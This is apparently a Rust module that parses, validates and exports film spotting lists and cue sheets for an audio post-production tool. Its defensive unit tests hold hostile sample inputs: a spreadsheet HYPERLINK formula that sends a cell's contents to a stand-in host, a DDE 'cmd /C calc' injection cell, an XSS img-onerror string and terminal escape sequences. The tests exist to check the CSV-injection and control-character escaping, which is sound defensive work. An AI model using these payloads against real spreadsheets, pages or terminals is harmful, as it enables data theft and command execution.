//! Spotting lists: the notes a director, producer or sound team takes while
//! watching a reel ("ADR here, Foley there, music starts on this cut").
//!
//! One spotting note ([`Marker`]) carries a cue number, a [`CueType`], in and out
//! timecodes, the character, the line or description, the reason and a free
//! note. Lists travel as CSV (one header row, RFC 4180 quoting) or JSON; both
//! parse to the same `Vec<Marker>` and write back losslessly, so the browser
//! preview (through `dubstage-wasm`), `dubstage spot` and the QC report share
//! this one module.
//!
//! Cue numbers follow the common post-production convention *reel, type letter,
//! two-digit number*: reel 1's first ADR cue is `1A01`, its third Foley cue
//! `1F03`. [`number_cues`] fills in missing numbers without touching given ones.
//!
//! [`validate`] checks a list against a reel: timecodes that parse at the reel's
//! frame rate (drop-frame aware), inside the reel, `in <= out`, unique cue
//! numbers. It reports every problem at once, each naming its row.

use crate::text::printable;
use crate::timecode::{FrameRate, Timecode};
use crate::{Error, Result};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// What a spotting note asks for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, PartialOrd, Ord)]
pub enum CueType {
    /// Automated dialogue replacement (a line to re-record).
    #[serde(rename = "ADR")]
    Adr,
    /// Foley (footsteps, cloth, props performed to picture).
    #[serde(rename = "Foley")]
    Foley,
    /// Sound effects (cut or designed).
    #[serde(rename = "SFX")]
    Sfx,
    /// A music cue.
    #[serde(rename = "Music")]
    Music,
    /// A general note.
    #[serde(rename = "Note")]
    Note,
}

impl CueType {
    /// Every type, in cue-sheet order.
    pub const ALL: [CueType; 5] = [
        CueType::Adr,
        CueType::Foley,
        CueType::Sfx,
        CueType::Music,
        CueType::Note,
    ];

    /// The name written in lists (`ADR`, `Foley`, `SFX`, `Music`, `Note`).
    pub fn name(self) -> &'static str {
        match self {
            CueType::Adr => "ADR",
            CueType::Foley => "Foley",
            CueType::Sfx => "SFX",
            CueType::Music => "Music",
            CueType::Note => "Note",
        }
    }

    /// The letter in a cue number (`1A01` is ADR, `1M03` music).
    pub fn letter(self) -> char {
        match self {
            CueType::Adr => 'A',
            CueType::Foley => 'F',
            CueType::Sfx => 'S',
            CueType::Music => 'M',
            CueType::Note => 'N',
        }
    }
}

impl fmt::Display for CueType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for CueType {
    type Err = String;
    /// Case-insensitive; accepts the common spellings (`fx`, `effects`, `mx`, ...).
    fn from_str(s: &str) -> std::result::Result<Self, String> {
        let t = s.trim().to_ascii_lowercase();
        Ok(match t.as_str() {
            "adr" | "loop" | "looping" => CueType::Adr,
            "foley" => CueType::Foley,
            "sfx" | "fx" | "effects" | "effect" | "sound effects" => CueType::Sfx,
            "music" | "mx" => CueType::Music,
            "note" | "notes" => CueType::Note,
            _ => {
                return Err(format!(
                    "unknown cue type '{}' (expected ADR, Foley, SFX, Music or Note)",
                    s.trim()
                ));
            }
        })
    }
}

/// One spotting note, as it is written in a list. Timecodes stay text here (so a
/// list can be read before the reel is known); [`validate`] resolves them.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Marker {
    /// Cue number (`1A01`); empty means "number it" ([`number_cues`]).
    #[serde(default)]
    pub cue: String,
    /// What is asked for.
    #[serde(rename = "type")]
    pub kind: CueType,
    /// In point, `hh:mm:ss:ff` (`;` before frames at drop-frame rates).
    #[serde(rename = "in")]
    pub tc_in: String,
    /// Out point; empty for a point note (out = in).
    #[serde(rename = "out", default)]
    pub tc_out: String,
    /// Character (for ADR).
    #[serde(default)]
    pub character: String,
    /// The line (ADR) or a description of the sound.
    #[serde(default)]
    pub line: String,
    /// Why (noise, performance, added line, missing sync sound, ...).
    #[serde(default)]
    pub reason: String,
    /// Anything else.
    #[serde(default)]
    pub note: String,
}

/// The reel a list is checked against.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SpotReel {
    /// The reel's number, used in cue numbers (`1` in `1A01`).
    pub reel: u32,
    /// Frame rate of the reel's timecode.
    pub rate: FrameRate,
    /// Audio sample rate in Hz.
    pub sample_rate: u32,
    /// Timecode of the reel's first sample.
    pub start: Timecode,
    /// Length in samples.
    pub length: u64,
}

impl SpotReel {
    /// The timecode of the reel's last frame.
    pub fn end(&self) -> Timecode {
        let last = self
            .start
            .to_samples(self.sample_rate)
            .saturating_add(i64::try_from(self.length.max(1)).unwrap_or(i64::MAX))
            - 1;
        Timecode::from_samples(last, self.rate, self.sample_rate)
    }
}

/// A marker whose timecodes resolved against a reel.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Cue {
    /// The marker as written (cue number filled in when it was empty).
    #[serde(flatten)]
    pub marker: Marker,
    /// In point, samples from the reel's first sample.
    pub in_sample: u64,
    /// Out point, samples from the reel's first sample (`== in_sample` for a point note).
    pub out_sample: u64,
    /// Duration in frames, at least 1 (the out frame is included).
    pub frames: u64,
}

/// The CSV columns, in the order they are written.
pub const CSV_COLUMNS: [&str; 8] = [
    "cue",
    "type",
    "in",
    "out",
    "character",
    "line",
    "reason",
    "note",
];

/// Header aliases accepted on import (lower case), mapped to [`CSV_COLUMNS`] indices.
fn column_of(header: &str) -> Option<usize> {
    let h = header
        .trim()
        .trim_start_matches('\u{feff}')
        .to_ascii_lowercase();
    let i = match h.as_str() {
        "cue" | "cue number" | "cue #" | "number" => 0,
        "type" | "kind" | "category" => 1,
        "in" | "tc in" | "tc_in" | "timecode in" | "start" => 2,
        "out" | "tc out" | "tc_out" | "timecode out" | "end" => 3,
        "character" | "char" => 4,
        "line" | "description" | "dialogue" | "text" => 5,
        "reason" => 6,
        "note" | "notes" | "comment" => 7,
        _ => return None,
    };
    Some(i)
}

/// Splits CSV text (RFC 4180: `,` separated, `"` quoted, `""` an escaped quote,
/// newlines allowed inside quotes; CRLF or LF) into records, each with the
/// 1-based line number it starts on.
fn csv_records(text: &str, name: &str) -> Result<Vec<(usize, Vec<String>)>> {
    let mut out = Vec::new();
    let mut rec: Vec<String> = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut line = 1usize;
    let mut rec_line = 1usize;
    let mut chars = text.chars().peekable();
    let mut field_started = false;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                '\n' => {
                    line += 1;
                    field.push('\n');
                }
                _ => field.push(c),
            }
            continue;
        }
        match c {
            '"' if field.is_empty() && !field_started => {
                quoted = true;
                field_started = true;
            }
            '"' => {
                return Err(Error::format(
                    name,
                    format!(
                        "line {line}: a quote inside an unquoted field (quote the whole field)"
                    ),
                ));
            }
            ',' => {
                rec.push(std::mem::take(&mut field));
                field_started = false;
            }
            '\r' => {}
            '\n' => {
                rec.push(std::mem::take(&mut field));
                field_started = false;
                if !(rec.len() == 1 && rec[0].trim().is_empty()) {
                    out.push((rec_line, std::mem::take(&mut rec)));
                }
                rec.clear();
                line += 1;
                rec_line = line;
            }
            _ => {
                field.push(c);
                field_started = true;
            }
        }
    }
    if quoted {
        return Err(Error::format(
            name,
            format!("line {rec_line}: a quoted field is not closed"),
        ));
    }
    if field_started || !field.is_empty() || !rec.is_empty() {
        rec.push(field);
        if !(rec.len() == 1 && rec[0].trim().is_empty()) {
            out.push((rec_line, rec));
        }
    }
    Ok(out)
}

/// Parses a CSV spotting list. The first record is the header: it names the
/// columns (any order; `type` and `in` are required; aliases such as `tc in`,
/// `description`, `notes` are accepted; unknown columns are an error so that
/// nothing is dropped silently). `name` is used in error messages.
pub fn parse_csv(text: &str, name: &str) -> Result<Vec<Marker>> {
    let records = csv_records(text, name)?;
    let Some(((hline, header), rows)) = records.split_first() else {
        return Ok(Vec::new());
    };
    let mut map = Vec::with_capacity(header.len());
    let mut seen = [false; 8];
    for h in header {
        let Some(i) = column_of(h) else {
            return Err(Error::format(
                name,
                format!(
                    "line {hline}: unknown column '{}' (expected {})",
                    h.trim(),
                    CSV_COLUMNS.join(", ")
                ),
            ));
        };
        if seen[i] {
            return Err(Error::format(
                name,
                format!("line {hline}: column '{}' appears twice", CSV_COLUMNS[i]),
            ));
        }
        seen[i] = true;
        map.push(i);
    }
    for required in [1, 2] {
        if !seen[required] {
            return Err(Error::format(
                name,
                format!(
                    "line {hline}: the header has no '{}' column",
                    CSV_COLUMNS[required]
                ),
            ));
        }
    }
    let mut markers = Vec::with_capacity(rows.len());
    for (line, row) in rows {
        if row.len() != header.len() {
            return Err(Error::format(
                name,
                format!(
                    "line {line}: {} fields, but the header has {}",
                    row.len(),
                    header.len()
                ),
            ));
        }
        let mut f: [String; 8] = Default::default();
        for (v, &i) in row.iter().zip(&map) {
            f[i] = v.clone();
        }
        let kind = f[1]
            .parse::<CueType>()
            .map_err(|m| Error::format(name, format!("line {line}: {m}")))?;
        let [cue, _, tc_in, tc_out, character, text, reason, note] =
            f.map(|v| unescape_formula(&v));
        markers.push(Marker {
            cue: cue.trim().to_string(),
            kind,
            tc_in: tc_in.trim().to_string(),
            tc_out: tc_out.trim().to_string(),
            character,
            line: text,
            reason,
            note,
        });
    }
    Ok(markers)
}

/// Would a spreadsheet take a cell starting like `s` for a formula, once a
/// run of leading `'` is taken off? (`=`, `+`, `-`, `@`, tab and CR start
/// formulas or are stripped before one: OWASP's "CSV Injection" guidance.)
fn formula_like(s: &str) -> bool {
    s.trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Escapes a cell a spreadsheet would evaluate (`=HYPERLINK(...)`, `@SUM(...)`,
/// `-6 dB dip`) by putting a `'` before it, which spreadsheets show as text.
/// A cell that already starts with `'`s before such a character gets one more,
/// so that [`unescape_formula`] gives back exactly what was written.
pub fn escape_formula(s: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(s) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// Undoes [`escape_formula`] (one leading `'` before a formula-like cell).
pub fn unescape_formula(s: &str) -> String {
    match s.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest.to_string(),
        _ => s.to_string(),
    }
}

/// Quotes a CSV field when it needs it (comma, quote, CR/LF, leading or trailing space).
fn csv_field(s: &str, out: &mut String) {
    let needs = s.contains([',', '"', '\n', '\r'])
        || s.starts_with(' ')
        || s.ends_with(' ')
        || s.starts_with('\t');
    if needs {
        out.push('"');
        for c in s.chars() {
            if c == '"' {
                out.push('"');
            }
            out.push(c);
        }
        out.push('"');
    } else {
        out.push_str(s);
    }
}

/// Writes markers as CSV with the [`CSV_COLUMNS`] header, CRLF line ends (RFC 4180),
/// every cell a spreadsheet would evaluate escaped ([`escape_formula`]).
/// `parse_csv(&to_csv(m))` gives `m` back.
pub fn to_csv(markers: &[Marker]) -> String {
    let mut out = CSV_COLUMNS.join(",");
    out.push_str("\r\n");
    for m in markers {
        let fields = [
            m.cue.as_str(),
            m.kind.name(),
            &m.tc_in,
            &m.tc_out,
            &m.character,
            &m.line,
            &m.reason,
            &m.note,
        ];
        for (i, f) in fields.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            csv_field(&escape_formula(f), &mut out);
        }
        out.push_str("\r\n");
    }
    out
}

/// The JSON document written by [`to_json`].
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SpotList {
    /// Format tag, `"dubstage-spot/1"`.
    pub format: String,
    /// Reel title (informative).
    #[serde(default)]
    pub title: String,
    /// Reel number (informative).
    #[serde(default)]
    pub reel: String,
    /// Frame rate name of the timecodes (`"23.976"`, `"29.97df"`, ...).
    #[serde(default)]
    pub frame_rate: String,
    /// The notes.
    pub markers: Vec<Marker>,
}

/// The format tag of JSON spotting lists.
pub const JSON_FORMAT: &str = "dubstage-spot/1";

/// Parses a JSON spotting list: a [`SpotList`] object or a bare array of markers.
pub fn parse_json(text: &str, name: &str) -> Result<Vec<Marker>> {
    let v: serde_json::Value = serde_json::from_str(text)
        .map_err(|e| Error::format(name, format!("line {}: {e}", e.line())))?;
    let arr = if v.is_array() {
        v
    } else if let Some(m) = v.get("markers") {
        if let Some(f) = v.get("format").and_then(|f| f.as_str())
            && f != JSON_FORMAT
        {
            return Err(Error::format(
                name,
                format!("format '{f}' is not {JSON_FORMAT}"),
            ));
        }
        m.clone()
    } else {
        return Err(Error::format(
            name,
            "expected an array of markers or an object with \"markers\"",
        ));
    };
    let items = arr.as_array().cloned().unwrap_or_default();
    let mut out = Vec::with_capacity(items.len());
    for (i, item) in items.into_iter().enumerate() {
        // The type is parsed leniently, like CSV (`fx`, `adr`, ...).
        let mut item = item;
        if let Some(t) = item.get("type").and_then(|t| t.as_str()) {
            let k = t
                .parse::<CueType>()
                .map_err(|m| Error::format(name, format!("marker {}: {m}", i + 1)))?;
            item["type"] = serde_json::Value::String(k.name().into());
        }
        let m: Marker = serde_json::from_value(item)
            .map_err(|e| Error::format(name, format!("marker {}: {e}", i + 1)))?;
        out.push(m);
    }
    Ok(out)
}

/// Writes a [`SpotList`] as pretty JSON.
pub fn to_json(markers: &[Marker], title: &str, reel: &str, rate: FrameRate) -> String {
    let list = SpotList {
        format: JSON_FORMAT.into(),
        title: title.into(),
        reel: reel.into(),
        frame_rate: rate.name().into(),
        markers: markers.to_vec(),
    };
    serde_json::to_string_pretty(&list).unwrap_or_default()
}

/// Parses a list by its file name: `.json` as JSON, anything else as CSV.
pub fn parse_any(text: &str, name: &str) -> Result<Vec<Marker>> {
    if name.to_ascii_lowercase().ends_with(".json") || text.trim_start().starts_with(['[', '{']) {
        parse_json(text, name)
    } else {
        parse_csv(text, name)
    }
}

/// Reads a spotting list file (CSV, or JSON by extension or content); errors
/// name the file and the line.
pub fn read_list(path: &std::path::Path) -> Result<Vec<Marker>> {
    let text = std::fs::read_to_string(path).map_err(|e| Error::io(path, e))?;
    parse_any(&text, &path.display().to_string())
}

/// Fills in empty cue numbers: for each type, the next number after the highest
/// one already used on this reel (`1A01`, `1A02`, ...), in timecode order of
/// the list as given. Given numbers are kept.
pub fn number_cues(markers: &mut [Marker], reel: u32) {
    for kind in CueType::ALL {
        let prefix = format!("{reel}{}", kind.letter());
        // u64 from u32 cue numbers: `+ 1` cannot wrap, however many there are.
        let mut next = markers
            .iter()
            .filter(|m| m.kind == kind)
            .filter_map(|m| m.cue.strip_prefix(&prefix)?.parse::<u32>().ok())
            .max()
            .map_or(0, u64::from)
            + 1;
        for m in markers.iter_mut().filter(|m| m.kind == kind) {
            if m.cue.trim().is_empty() {
                m.cue = format!("{prefix}{next:02}");
                next += 1;
            }
        }
    }
}

/// Checks markers against a reel and resolves their timecodes. Every problem is
/// reported in one [`Error::Invalid`], one line per marker (`row N` counts
/// markers from 1, which for a CSV is the line number minus one).
/// Empty cue numbers are filled in ([`number_cues`]); the result is sorted by in point.
pub fn validate(markers: &[Marker], reel: &SpotReel, name: &str) -> Result<Vec<Cue>> {
    let mut ms = markers.to_vec();
    number_cues(&mut ms, reel.reel);
    let start = reel.start.to_samples(reel.sample_rate);
    let end = start.saturating_add(i64::try_from(reel.length).unwrap_or(i64::MAX));
    let mut problems = Vec::new();
    let mut cues = Vec::with_capacity(ms.len());
    let mut seen = std::collections::HashMap::new();
    for (i, m) in ms.into_iter().enumerate() {
        let row = i + 1;
        let who = if m.cue.is_empty() {
            format!("row {row}")
        } else {
            format!("row {row} ({})", m.cue)
        };
        if let Some(prev) = seen.insert(m.cue.clone(), row) {
            problems.push(format!(
                "{who}: cue number {} is also used on row {prev}",
                m.cue
            ));
        }
        let tin = match Timecode::parse(&m.tc_in, reel.rate) {
            Ok(t) => t,
            Err(e) => {
                problems.push(format!("{who}: in: {e}"));
                continue;
            }
        };
        let tout = if m.tc_out.trim().is_empty() {
            tin
        } else {
            match Timecode::parse(&m.tc_out, reel.rate) {
                Ok(t) => t,
                Err(e) => {
                    problems.push(format!("{who}: out: {e}"));
                    continue;
                }
            }
        };
        let a = tin.to_samples(reel.sample_rate);
        let b = tout.to_samples(reel.sample_rate);
        if a < start || a >= end {
            problems.push(format!(
                "{who}: in {tin} is outside the reel ({} to {})",
                reel.start,
                reel.end()
            ));
            continue;
        }
        if b < start || b >= end {
            problems.push(format!(
                "{who}: out {tout} is outside the reel ({} to {})",
                reel.start,
                reel.end()
            ));
            continue;
        }
        if b < a {
            problems.push(format!("{who}: out {tout} is before in {tin}"));
            continue;
        }
        let frames = (tout.to_frames() - tin.to_frames()) as u64 + 1;
        cues.push(Cue {
            marker: m,
            in_sample: (a - start) as u64,
            out_sample: (b - start) as u64,
            frames,
        });
    }
    if !problems.is_empty() {
        let n = problems.len();
        return Err(Error::Invalid(format!(
            "{name}: {n} problem{} in the spotting list:\n  {}",
            if n == 1 { "" } else { "s" },
            problems.join("\n  ")
        )));
    }
    cues.sort_by(|x, y| {
        x.in_sample
            .cmp(&y.in_sample)
            .then(x.marker.cue.cmp(&y.marker.cue))
    });
    Ok(cues)
}

/// Formats validated cues as a plain-text cue sheet, grouped by type in
/// [`CueType::ALL`] order, each group in timecode order, with a count per type.
pub fn cue_sheet(cues: &[Cue], title: &str, reel: &SpotReel) -> String {
    use std::fmt::Write;
    let mut s = String::new();
    let title = printable(title);
    let _ = writeln!(
        s,
        "CUE SHEET  {title}  reel {}  {} fps  {} - {}",
        reel.reel,
        reel.rate,
        reel.start,
        reel.end()
    );
    for kind in CueType::ALL {
        let group: Vec<&Cue> = cues.iter().filter(|c| c.marker.kind == kind).collect();
        if group.is_empty() {
            continue;
        }
        let _ = writeln!(s, "\n{} ({})", kind.name(), group.len());
        let _ = writeln!(
            s,
            "  {:<7} {:<11} {:<11} {:>6}  {:<14} {:<40} {:<16} NOTE",
            "CUE", "IN", "OUT", "FRAMES", "CHARACTER", "LINE / DESCRIPTION", "REASON"
        );
        for c in group {
            let m = &c.marker;
            let out = if m.tc_out.trim().is_empty() {
                m.tc_in.as_str()
            } else {
                m.tc_out.as_str()
            };
            let _ = writeln!(
                s,
                "  {:<7} {:<11} {:<11} {:>6}  {:<14} {:<40} {:<16} {}",
                printable(&m.cue),
                printable(&m.tc_in),
                printable(out),
                c.frames,
                printable(&m.character),
                printable(&m.line),
                printable(&m.reason),
                printable(&m.note)
            );
        }
    }
    let _ = writeln!(s, "\n{} cues", cues.len());
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reel(rate: FrameRate) -> SpotReel {
        SpotReel {
            reel: 1,
            rate,
            sample_rate: 48_000,
            start: Timecode::parse(
                if rate.is_drop() {
                    "01:00:00;00"
                } else {
                    "01:00:00:00"
                },
                rate,
            )
            .unwrap(),
            length: 48_000 * 600,
        }
    }

    fn m(kind: CueType, tc_in: &str, tc_out: &str) -> Marker {
        Marker {
            cue: String::new(),
            kind,
            tc_in: tc_in.into(),
            tc_out: tc_out.into(),
            character: String::new(),
            line: String::new(),
            reason: String::new(),
            note: String::new(),
        }
    }

    #[test]
    fn csv_round_trips_awkward_text() {
        let mut a = m(CueType::Adr, "01:00:10:00", "01:00:12:05");
        a.cue = "1A01".into();
        a.character = "MARY".into();
        a.line = "He said, \"no\"\nthen left".into();
        a.reason = " noise ".into();
        a.note = "<img src=x onerror=alert(1)>".into();
        let b = m(CueType::Music, "01:02:00:00", "");
        let list = vec![a, b];
        let csv = to_csv(&list);
        assert!(csv.starts_with("cue,type,in,out,character,line,reason,note\r\n"));
        assert_eq!(parse_csv(&csv, "x.csv").unwrap(), list);
        let json = to_json(&list, "T", "1", FrameRate::Fps24);
        assert_eq!(parse_json(&json, "x.json").unwrap(), list);
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_evaluate_are_escaped_and_round_trip() {
        let texts = [
            "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1 dB",
            "-6 dB dip",
            "\tTAB",
            "\rCR",
            "'=already quoted",
            "''@two quotes",
            "'plain apostrophe",
            "it's fine = fine",
            "",
        ];
        let list: Vec<Marker> = texts
            .iter()
            .map(|t| {
                let mut x = m(CueType::Note, "01:00:10:00", "");
                x.line = t.to_string();
                x.note = t.to_string();
                x.character = t.to_string();
                x.reason = t.to_string();
                x
            })
            .collect();
        let csv = to_csv(&list);
        // No cell of the output starts a formula.
        for rec in csv_records(&csv, "x.csv").unwrap() {
            for cell in rec.1 {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
            }
        }
        assert!(csv.contains("\"'=HYPERLINK"), "{csv}");
        assert!(csv.contains(",'-6 dB dip,"), "{csv}");
        assert!(csv.contains(",''=already quoted,"), "{csv}");
        assert!(csv.contains(",'plain apostrophe,"), "{csv}");
        assert_eq!(parse_csv(&csv, "x.csv").unwrap(), list);
        // Cells that were never escaped are read as they are.
        let plain = "type,in,line\nNote,01:00:10:00,'hello\n";
        assert_eq!(parse_csv(plain, "x.csv").unwrap()[0].line, "'hello");
    }

    #[test]
    fn huge_cue_numbers_and_lengths_do_not_wrap() {
        let mut l = vec![
            m(CueType::Adr, "01:00:01:00", ""),
            m(CueType::Adr, "01:00:02:00", ""),
        ];
        l[0].cue = format!("1A{}", u32::MAX);
        number_cues(&mut l, 1);
        assert_eq!(l[1].cue, format!("1A{}", u64::from(u32::MAX) + 1));
        let mut r = reel(FrameRate::Fps24);
        r.length = u64::MAX;
        let c = validate(&[m(CueType::Note, "01:00:01:00", "")], &r, "x").unwrap();
        assert_eq!(c[0].in_sample, 48_000);
        let _ = r.end();
    }

    #[test]
    fn cue_sheets_carry_no_terminal_control_sequences() {
        let r = reel(FrameRate::Fps24);
        let mut a = m(CueType::Adr, "01:00:10:00", "");
        a.line = "\u{1b}]0;owned\u{7}\u{1b}[2Jhello".into();
        a.character = "\u{202e}YRAM".into();
        let c = validate(&[a], &r, "x").unwrap();
        let s = cue_sheet(&c, "T\u{1b}[31m", &r);
        assert!(
            !s.contains('\u{1b}') && !s.contains('\u{7}') && !s.contains('\u{202e}'),
            "{s:?}"
        );
        assert!(s.contains("hello"), "{s}");
    }

    #[test]
    fn csv_header_aliases_and_order() {
        let text = "TC In,Type,Description\n01:00:01:00,fx,door slam\n";
        let l = parse_csv(text, "x.csv").unwrap();
        assert_eq!(l.len(), 1);
        assert_eq!(l[0].kind, CueType::Sfx);
        assert_eq!(l[0].line, "door slam");
        assert_eq!(l[0].tc_in, "01:00:01:00");
    }

    #[test]
    fn csv_errors_name_the_line() {
        let e = parse_csv("type,in\nADR,01:00:00:00\nbanjo,01:00:01:00\n", "s.csv")
            .unwrap_err()
            .to_string();
        assert!(
            e.contains("s.csv") && e.contains("line 3") && e.contains("banjo"),
            "{e}"
        );
        let e = parse_csv("type,in,colour\n", "s.csv")
            .unwrap_err()
            .to_string();
        assert!(e.contains("unknown column 'colour'"), "{e}");
        let e = parse_csv("type\nADR\n", "s.csv").unwrap_err().to_string();
        assert!(e.contains("no 'in' column"), "{e}");
        let e = parse_csv("type,in\nADR\n", "s.csv")
            .unwrap_err()
            .to_string();
        assert!(e.contains("line 2: 1 fields"), "{e}");
        let e = parse_csv("type,in\n\"ADR,01", "s.csv")
            .unwrap_err()
            .to_string();
        assert!(e.contains("not closed"), "{e}");
    }

    #[test]
    fn numbering_by_type_and_reel_keeps_given_numbers() {
        let mut l = vec![
            m(CueType::Adr, "01:00:01:00", ""),
            m(CueType::Foley, "01:00:02:00", ""),
            m(CueType::Adr, "01:00:03:00", ""),
            m(CueType::Adr, "01:00:04:00", ""),
        ];
        l[2].cue = "2A07".into();
        number_cues(&mut l, 2);
        let cues: Vec<&str> = l.iter().map(|m| m.cue.as_str()).collect();
        assert_eq!(cues, ["2A08", "2F01", "2A07", "2A09"]);
    }

    #[test]
    fn validation_reports_every_problem() {
        let r = reel(FrameRate::Fps24);
        let mut dup = m(CueType::Adr, "01:00:05:00", "");
        dup.cue = "1A01".into();
        let l = vec![
            dup.clone(),
            dup,
            m(CueType::Sfx, "00:59:59:23", ""),
            m(CueType::Sfx, "01:10:00:00", ""),
            m(CueType::Note, "01:00:09:00", "01:00:08:00"),
            m(CueType::Note, "01:00:09:24", ""),
        ];
        let e = validate(&l, &r, "list.csv").unwrap_err().to_string();
        assert!(e.starts_with("list.csv: 5 problems"), "{e}");
        assert!(
            e.contains("row 2 (1A01): cue number 1A01 is also used on row 1"),
            "{e}"
        );
        assert!(
            e.contains("in 00:59:59:23 is outside the reel (01:00:00:00 to 01:09:59:23)"),
            "{e}"
        );
        assert!(e.contains("in 01:10:00:00 is outside"), "{e}");
        assert!(
            e.contains("out 01:00:08:00 is before in 01:00:09:00"),
            "{e}"
        );
        assert!(e.contains("frame 24 out of range"), "{e}");
    }

    #[test]
    fn validation_resolves_drop_frame_timecodes() {
        let r = reel(FrameRate::Fps29_97Df);
        // 01:01:00;02 is the frame right after 01:00:59;29 in drop-frame.
        let l = vec![m(CueType::Adr, "01:00:59;29", "01:01:00;02")];
        let c = validate(&l, &r, "x").unwrap();
        assert_eq!(c[0].frames, 2);
        // 1799 frames after the reel's first frame, positions counted from midnight.
        let tin = Timecode::parse("01:00:59;29", r.rate).unwrap();
        assert_eq!(tin.to_frames() - r.start.to_frames(), 1799);
        assert_eq!(
            c[0].in_sample as i64,
            tin.to_samples(48_000) - r.start.to_samples(48_000)
        );
        assert_eq!(c[0].marker.cue, "1A01");
        let bad = vec![m(CueType::Adr, "01:01:00;00", "")];
        let e = validate(&bad, &r, "x").unwrap_err().to_string();
        assert!(e.contains("does not exist in drop-frame"), "{e}");
    }

    #[test]
    fn cue_sheet_groups_by_type() {
        let r = reel(FrameRate::Fps24);
        let mut a = m(CueType::Adr, "01:00:10:00", "01:00:11:23");
        a.character = "MARY".into();
        a.line = "Where were you?".into();
        let l = vec![m(CueType::Music, "01:00:20:00", ""), a];
        let c = validate(&l, &r, "x").unwrap();
        let s = cue_sheet(&c, "Demo", &r);
        let adr = s.find("ADR (1)").unwrap();
        let mus = s.find("Music (1)").unwrap();
        assert!(adr < mus, "{s}");
        assert!(
            s.contains("1A01    01:00:10:00 01:00:11:23     48  MARY"),
            "{s}"
        );
        assert!(s.contains("2 cues"));
    }
}
